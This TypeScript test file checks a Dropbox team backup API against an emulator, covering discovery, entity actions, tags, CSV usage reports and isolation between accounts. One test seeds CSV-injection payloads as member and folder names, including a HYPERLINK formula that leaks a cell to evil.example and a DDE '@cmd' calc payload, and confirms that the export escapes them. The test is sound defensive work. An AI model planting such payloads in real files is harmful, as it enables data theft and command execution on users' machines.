import t from 'tap';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { dropboxConfig, startDropbox, APP_KEY } from '../helpers/dropbox.ts';
import { discoveryJob } from '../../workers/jobs/discovery.ts';
import { purgeJob } from '../../workers/jobs/purge.ts';
import type { Emulator } from '../dropbox-emulator/server.ts';

async function connectedTask(api: TestApp, emu: Emulator, key: string, body: Record<string, unknown> = {}) {
  const { refreshToken } = emu.state.issueTeamTokens(APP_KEY);
  const res = await api.request('POST', '/v1/tasks', { key, body: { name: 'Team', refresh_token: refreshToken, ...body } });
  if (res.status !== 201) throw new Error(res.text);
  return res.body.id as string;
}

async function entityIds(api: TestApp, key: string, query = ''): Promise<Map<string, { id: string; status: string }>> {
  const res = await api.request('GET', `/v1/entities?limit=100${query}`, { key });
  return new Map(res.body.data.map((e: { name: string; id: string; status: string }) => [e.name, e]));
}

t.test('discovery of a large team across pages: members, team folders, removed members archived', async (t) => {
  const emu = await startDropbox(t);
  const { seedLargeTeam } = await import('../dropbox-emulator/seed.ts');
  seedLargeTeam(emu.state, { members: 340, teamFolders: 130 });
  const api = await startTestApp(t, { config: dropboxConfig(emu) });
  const { key, accountId } = await api.signUp();
  const taskId = await connectedTask(api, emu, key);
  emu.counters.reset();
  const result = await discoveryJob(api.deps, { accountId, taskId }, { pageSize: 100 });
  // 340 members + the admin seedLargeTeam adds, 130 team folders; every tenth member was removed.
  t.match(result, { discovered: 471, created: 471, archived: 0 });
  t.equal(emu.counters.routes['team/members/list_v2'], 1);
  t.equal(emu.counters.routes['team/members/list/continue_v2'], 3, '341 members in four pages of 100');
  t.equal(emu.counters.routes['team/team_folder/list/continue'], 1, '130 team folders in pages of 100');
  const counts = await api.database.sql`select kind, status, count(*)::int as n from entities group by 1, 2 order by 1, 2`;
  t.same(counts.map((r) => [r.kind, r.status, r.n]), [
    ['member', 'archived', 34],
    ['member', 'scheduled', 307],
    ['team_folder', 'scheduled', 130],
  ]);

  // A member leaves; another joins; a team folder is archived. Rediscovery reflects it.
  const leaving = emu.state.findMember('user0001@large-emu.test')!;
  emu.state.removeMember(leaving);
  emu.state.addMember({ email: 'newbie@large-emu.test', givenName: 'New', surname: 'Bie' });
  const folders = (await api.database.sql`select dropbox_id from entities where kind = 'team_folder' order by name limit 1`)[0]!;
  emu.state.archiveTeamFolder(folders.dropbox_id);
  const again = await discoveryJob(api.deps, { accountId, taskId }, { pageSize: 100 });
  t.match(again, { created: 1, activated: 1, archived: 2 });
  const [gone] = await api.database.sql`select status, archived_at from entities where email = 'user0001@large-emu.test'`;
  t.equal(gone!.status, 'archived');
  t.ok(gone!.archived_at);
  const third = await discoveryJob(api.deps, { accountId, taskId }, { pageSize: 100 });
  t.match(third, { created: 0, archived: 0, updated: 0 }, 'a rerun with no change changes nothing');
});

t.test('auto-activate off leaves new entities not_active; a second task sees them as backed up elsewhere', async (t) => {
  const emu = await startDropbox(t);
  emu.state.addMember({ email: 'admin@team.test', givenName: 'Ada', surname: 'Admin', admin: true });
  emu.state.addMember({ email: 'bob@team.test', givenName: 'Bob', surname: 'B' });
  const api = await startTestApp(t, { config: dropboxConfig(emu) });
  const { key, accountId } = await api.signUp();
  const manual = await connectedTask(api, emu, key, { auto_activate: false });
  await discoveryJob(api.deps, { accountId, taskId: manual });
  const list = await entityIds(api, key, `&task_id=${manual}`);
  t.same([...list.values()].map((e) => e.status), ['not_active', 'not_active']);

  await api.request('POST', '/v1/entities/actions', { key, body: { action: 'activate', entity_ids: [list.get('Bob B')!.id] } });
  const second = await connectedTask(api, emu, key);
  await discoveryJob(api.deps, { accountId, taskId: second });
  const other = await entityIds(api, key, `&task_id=${second}`);
  t.equal(other.get('Bob B')!.status, 'backed_up_in_another_task');
  t.equal(other.get('Ada Admin')!.status, 'scheduled');
  const refused = await api.request('POST', '/v1/entities/actions', { key, body: { action: 'activate', entity_ids: [other.get('Bob B')!.id] } });
  t.same(refused.body.results[0].error.code, 'backed_up_in_another_task');
});

t.test('entity actions and their status transitions', async (t) => {
  const emu = await startDropbox(t);
  emu.state.addMember({ email: 'admin@team.test', givenName: 'Ada', surname: 'Admin', admin: true });
  emu.state.addMember({ email: 'bob@team.test', givenName: 'Bob', surname: 'B' });
  const removed = emu.state.addMember({ email: 'gone@team.test', givenName: 'Gone', surname: 'G' });
  emu.state.removeMember(removed);
  const api = await startTestApp(t, { config: dropboxConfig(emu), start: new Date('2026-06-01T10:30:00Z') });
  const { key, accountId } = await api.signUp();
  const taskId = await connectedTask(api, emu, key, { auto_activate: false });
  await discoveryJob(api.deps, { accountId, taskId });
  const e = await entityIds(api, key);
  const ada = e.get('Ada Admin')!.id;
  const bob = e.get('Bob B')!.id;
  const gone = e.get('Gone G')!.id;
  t.equal(e.get('Gone G')!.status, 'archived');
  const act = (action: string, ids: string[], extra: Record<string, unknown> = {}) =>
    api.request('POST', '/v1/entities/actions', { key, body: { action, entity_ids: ids, ...extra } });

  const activated = await act('activate', [ada, bob, gone, 'ent_00000000000000000000000000']);
  t.equal(activated.status, 200);
  t.equal(activated.body.succeeded, 2);
  t.equal(activated.body.failed, 2);
  t.same(activated.body.results.map((r: { ok: boolean; status: string | null; error: { code: string } | null }) => [r.ok, r.status, r.error?.code ?? null]), [
    [true, 'scheduled', null],
    [true, 'scheduled', null],
    [false, 'archived', 'entity_archived'],
    [false, null, 'not_found'],
  ]);
  const adaNow = await api.request('GET', `/v1/entities/${ada}`, { key });
  t.equal(adaNow.body.next_backup_at, '2026-06-02T03:00:00.000Z', 'the next 03:00 UTC (the default backup hour)');

  const paused = await act('pause', [ada]);
  t.equal(paused.body.results[0].status, 'paused');
  t.equal((await api.request('GET', `/v1/entities/${ada}`, { key })).body.next_backup_at, null, 'a paused entity is not scheduled');
  const pausedTwice = await act('pause', [ada]);
  t.equal(pausedTwice.body.results[0].ok, true, 'pausing a paused entity is a no-op');
  const backupPaused = await act('backup_now', [ada]);
  t.equal(backupPaused.body.results[0].error.code, 'not_active');
  const backupBob = await act('backup_now', [bob]);
  t.equal(backupBob.body.results[0].ok, true);
  await act('activate', [ada]);
  t.equal((await api.request('GET', `/v1/entities/${ada}`, { key })).body.status, 'scheduled', 'paused → scheduled');

  const filtered = await api.request('GET', '/v1/entities?status=archived', { key });
  t.same(filtered.body.data.map((x: { id: string }) => x.id), [gone]);
  const ids = async (status: string) => {
    const res = await api.request('GET', `/v1/entities?status=${status}`, { key });
    return res.status === 200 ? res.body.data.map((x: { id: string }) => x.id).sort() : res.status;
  };
  await api.database.sql`update entities set status = 'failed' where id = ${bob}`;
  t.same(await ids('failed,archived'), [bob, gone].sort(), 'several statuses at once');
  t.same(await ids('active'), [ada, bob].sort(), '"active": every status backed up on schedule');
  t.same(await ids('active,archived'), [ada, bob, gone].sort());
  t.same(await ids('paused'), []);
  t.equal(await ids('failed,exploded'), 400, 'an unknown status is a field error');
  await api.database.sql`update entities set status = 'scheduled' where id = ${bob}`;
  const search = await api.request('GET', '/v1/entities?q=BOB@TEAM', { key });
  t.same(search.body.data.map((x: { id: string }) => x.id), [bob], 'case-insensitive email substring');
  const byKind = await api.request('GET', '/v1/entities?kind=team_folder', { key });
  t.same(byKind.body.data, []);

  // Delete with a grace period; undelete; purge after it.
  const deleted = await act('delete', [bob]);
  t.equal(deleted.body.succeeded, 1);
  const bobDeleted = await api.request('GET', `/v1/entities/${bob}`, { key });
  t.equal(bobDeleted.body.state, 'deleted');
  t.equal(bobDeleted.body.purge_time, '2026-06-08T10:30:00.000Z');
  t.notOk((await entityIds(api, key)).has('Bob B'), 'hidden from the default list');
  const actOnDeleted = await act('activate', [bob]);
  t.equal(actOnDeleted.body.results[0].error.code, 'entity_deleted');
  const undeleted = await api.request('POST', `/v1/entities/${bob}/undelete`, { key });
  t.equal(undeleted.body.state, 'active');
  await act('delete', [bob]);
  api.clock.advance(8 * 86_400_000);
  t.equal((await api.request('POST', `/v1/entities/${bob}/undelete`, { key })).status, 410);
  t.same(await purgeJob(api.deps), { tasks: 0, entities: 1 });
  t.equal((await api.request('GET', `/v1/entities/${bob}`, { key })).status, 404);

  const noTag = await act('add_tag', [ada]);
  t.equal(noTag.status, 400);
  t.same(noTag.body.errors.map((x: { pointer: string }) => x.pointer), ['/body/tag_id']);
  const tooMany = await api.request('POST', '/v1/entities/actions', { key, body: { action: 'activate', entity_ids: [] } });
  t.equal(tooMany.status, 400);
  const unknownAction = await api.request('POST', '/v1/entities/actions', { key, body: { action: 'explode', entity_ids: [ada] } });
  t.equal(unknownAction.status, 400);
});

t.test('tags: create, rename, apply to many, filter, remove, delete', async (t) => {
  const emu = await startDropbox(t);
  emu.state.addMember({ email: 'admin@team.test', givenName: 'Ada', surname: 'Admin', admin: true });
  emu.state.addMember({ email: 'bob@team.test', givenName: 'Bob', surname: 'B' });
  emu.state.addTeamFolder('Sales');
  const api = await startTestApp(t, { config: dropboxConfig(emu) });
  const { key, accountId } = await api.signUp();
  const taskId = await connectedTask(api, emu, key);
  await discoveryJob(api.deps, { accountId, taskId });
  const e = await entityIds(api, key);

  const managers = await api.request('POST', '/v1/tags', { key, body: { name: 'Managers' } });
  t.equal(managers.status, 201);
  const dup = await api.request('POST', '/v1/tags', { key, body: { name: 'managers' } });
  t.equal(dup.status, 409);
  t.equal(dup.body.code, 'tag_exists');
  const sales = await api.request('POST', '/v1/tags', { key, body: { name: 'Sales team' } });

  const applied = await api.request('POST', '/v1/entities/actions', { key, body: { action: 'add_tag', tag_id: managers.body.id, entity_ids: [e.get('Ada Admin')!.id, e.get('Bob B')!.id] } });
  t.equal(applied.body.succeeded, 2);
  await api.request('POST', '/v1/entities/actions', { key, body: { action: 'add_tag', tag_id: sales.body.id, entity_ids: [e.get('Sales')!.id, e.get('Bob B')!.id] } });
  const again = await api.request('POST', '/v1/entities/actions', { key, body: { action: 'add_tag', tag_id: managers.body.id, entity_ids: [e.get('Ada Admin')!.id] } });
  t.equal(again.body.succeeded, 1, 'tagging twice is harmless');

  const byTag = await api.request('GET', `/v1/entities?tag=${managers.body.id}`, { key });
  t.same(byTag.body.data.map((x: { name: string }) => x.name).sort(), ['Ada Admin', 'Bob B']);
  const bob = await api.request('GET', `/v1/entities/${e.get('Bob B')!.id}`, { key });
  t.same(bob.body.tags.map((x: { name: string }) => x.name), ['Managers', 'Sales team']);
  const tagGot = await api.request('GET', `/v1/tags/${managers.body.id}`, { key });
  t.equal(tagGot.body.entity_count, 2);
  const searched = await api.request('GET', '/v1/tags?name=sale', { key });
  t.same(searched.body.data.map((x: { name: string }) => x.name), ['Sales team']);

  const renamed = await api.request('PATCH', `/v1/tags/${managers.body.id}`, { key, body: { name: 'Leads' } });
  t.equal(renamed.body.name, 'Leads');
  const clash = await api.request('PATCH', `/v1/tags/${managers.body.id}`, { key, body: { name: 'SALES TEAM' } });
  t.equal(clash.status, 409);

  await api.request('POST', '/v1/entities/actions', { key, body: { action: 'remove_tag', tag_id: managers.body.id, entity_ids: [e.get('Bob B')!.id] } });
  t.same((await api.request('GET', `/v1/entities?tag=${managers.body.id}`, { key })).body.data.map((x: { name: string }) => x.name), ['Ada Admin']);
  t.equal((await api.request('DELETE', `/v1/tags/${sales.body.id}`, { key })).status, 204);
  const bobAfter = await api.request('GET', `/v1/entities/${e.get('Bob B')!.id}`, { key });
  t.same(bobAfter.body.tags, [], 'a deleted tag leaves its entities');
});

t.test('usage report as CSV', async (t) => {
  const emu = await startDropbox(t);
  emu.state.addMember({ email: 'admin@team.test', givenName: 'Ada', surname: 'Admin', admin: true });
  const gone = emu.state.addMember({ email: 'gone@team.test', givenName: 'Gone', surname: 'G' });
  emu.state.removeMember(gone);
  emu.state.addTeamFolder('Finance, "Q1"');
  const api = await startTestApp(t, { config: dropboxConfig(emu) });
  const { key, accountId } = await api.signUp();
  const taskId = await connectedTask(api, emu, key, { auto_activate: false });
  await discoveryJob(api.deps, { accountId, taskId });
  const e = await entityIds(api, key);
  await api.request('POST', '/v1/entities/actions', { key, body: { action: 'activate', entity_ids: [e.get('Ada Admin')!.id] } });

  const res = await fetch(`${api.url}/v1/entities?limit=1`, { headers: { authorization: `Bearer ${key}`, accept: 'text/csv' } });
  t.equal(res.status, 200);
  t.match(res.headers.get('content-type'), /^text\/csv/);
  const lines = (await res.text()).trim().split('\n');
  t.equal(lines[0], 'entity,email,kind,usage_status,status,size_bytes,item_count,last_backup,task,entity_id');
  t.equal(lines.length, 4, 'every entity, not one page');
  t.match(lines[1], /^Ada Admin,admin@team\.test,member,active,scheduled,0,0,,Team,ent_/);
  t.match(lines[2], /^"Finance, ""Q1""",,team_folder,inactive,not_active,/, 'quoted as CSV requires');
  t.match(lines[3], /^Gone G,gone@team\.test,member,archived,archived,/);
});

t.test('CSV injection: Dropbox member and team folder names that start a formula come out of the usage report as text', async (t) => {
  const emu = await startDropbox(t);
  emu.state.addMember({ email: 'admin@team.test', givenName: '=HYPERLINK("https://evil.example/?"&A1', surname: '"x")', admin: true });
  emu.state.addMember({ email: 'plus@team.test', givenName: '+SUM(1', surname: '2)' });
  emu.state.addTeamFolder('@cmd|\' /C calc\'!A0');
  emu.state.addTeamFolder('-1+2');
  emu.state.addTeamFolder('Plain - fine = fine');
  const api = await startTestApp(t, { config: dropboxConfig(emu) });
  const { key, accountId } = await api.signUp();
  const taskId = await connectedTask(api, emu, key, { auto_activate: false });
  await discoveryJob(api.deps, { accountId, taskId });

  const res = await fetch(`${api.url}/v1/entities`, { headers: { authorization: `Bearer ${key}`, accept: 'text/csv' } });
  t.equal(res.status, 200);
  const names = (await res.text()).trim().split('\n').slice(1).map((line) => line.slice(0, line.search(/,(?:[a-z0-9.@-]+@team\.test)?,(?:member|team_folder),/)));
  t.same(names.sort(), [
    `"'=HYPERLINK(""https://evil.example/?""&A1 ""x"")"`,
    `'+SUM(1 2)`,
    `'-1+2`,
    `'@cmd|' /C calc'!A0`,
    'Plain - fine = fine',
  ].sort(), 'each formula-like name starts with an apostrophe; a name with = or - inside is untouched');
});

t.test('entities and tags of another account are invisible', async (t) => {
  const emu = await startDropbox(t);
  emu.state.addMember({ email: 'admin@team.test', givenName: 'Ada', surname: 'Admin', admin: true });
  const api = await startTestApp(t, { config: dropboxConfig(emu) });
  const a = await api.signUp();
  const b = await api.signUp();
  const taskId = await connectedTask(api, emu, a.key);
  await discoveryJob(api.deps, { accountId: a.accountId, taskId });
  const ada = (await entityIds(api, a.key)).get('Ada Admin')!.id;
  const tag = await api.request('POST', '/v1/tags', { key: a.key, body: { name: 'A only' } });
  const bTag = await api.request('POST', '/v1/tags', { key: b.key, body: { name: 'B' } });

  t.equal((await api.request('GET', `/v1/entities/${ada}`, { key: b.key })).status, 404);
  t.equal((await api.request('POST', `/v1/entities/${ada}/undelete`, { key: b.key })).status, 404);
  t.same((await api.request('GET', '/v1/entities', { key: b.key })).body.data, []);
  const action = await api.request('POST', '/v1/entities/actions', { key: b.key, body: { action: 'pause', entity_ids: [ada] } });
  t.equal(action.body.results[0].error.code, 'not_found');
  const crossTag = await api.request('POST', '/v1/entities/actions', { key: a.key, body: { action: 'add_tag', tag_id: bTag.body.id, entity_ids: [ada] } });
  t.equal(crossTag.status, 400, 'another account\'s tag cannot be applied');
  for (const [m, body] of [['GET'], ['PATCH', { name: 'x' }], ['DELETE']] as [string, unknown?][]) {
    t.equal((await api.request(m, `/v1/tags/${tag.body.id}`, { key: b.key, body })).status, 404, `${m} tag`);
  }
  t.equal((await api.request('GET', `/v1/entities/${ada}`, { key: a.key })).body.status, 'scheduled', 'untouched');
});
